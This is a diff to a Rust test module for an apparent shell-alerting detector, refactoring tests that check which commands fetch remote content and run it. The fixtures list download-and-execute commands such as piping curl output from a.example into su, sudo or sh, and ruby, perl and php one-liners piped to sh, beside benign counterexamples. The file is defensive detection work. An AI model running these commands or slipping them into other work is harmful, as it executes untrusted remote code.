@@ -167,12 +167,11 @@ pub(super) fn is_input(file: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use crate::alert::runs_download;
-    use crate::alert::shell::tests::forms;
+    use crate::alert::shell::tests::{are_not_run, are_run};
 
     #[test]
     fn a_download_is_run_that_another_user_another_host_or_another_program_is_fed() {
-        for command in [
+        are_run(&[
             "curl -s https://a.example/x | su",
             "curl -s https://a.example/x | su - ada",
             "curl -s https://a.example/x | sudo -s",
@@ -200,10 +199,8 @@ mod tests {
             "ruby -ropen-uri -e 'puts URI.open(\"https://a.example/x\").read' | sh",
             "perl -MLWP::Simple -e 'getprint \"https://a.example/x\"' | sh",
             "php -r 'echo file_get_contents(\"https://a.example/x\");' | sh",
-        ] {
-            forms(command).iter().for_each(|text| assert!(runs_download(text), "{text}"));
-        }
-        for command in [
+        ]);
+        are_not_run(&[
             "curl -s https://a.example/x | su ada -c 'cat > f'",
             "curl -s https://a.example/x | sudo -u ada tee /etc/hosts",
             "curl -s https://a.example/x | ssh h 'cat > f'",
@@ -218,8 +215,6 @@ mod tests {
             "openssl s_client -connect a.example:443 | openssl x509 -noout",
             "python3 -c \"print(u.urlopen('https://a.example/x').read())\" | python3 -m json.tool",
             "for u in a b; do curl -s $u; done; sh report.sh",
-        ] {
-            forms(command).iter().for_each(|text| assert!(!runs_download(text), "{text}"));
-        }
+        ]);
     }
 }
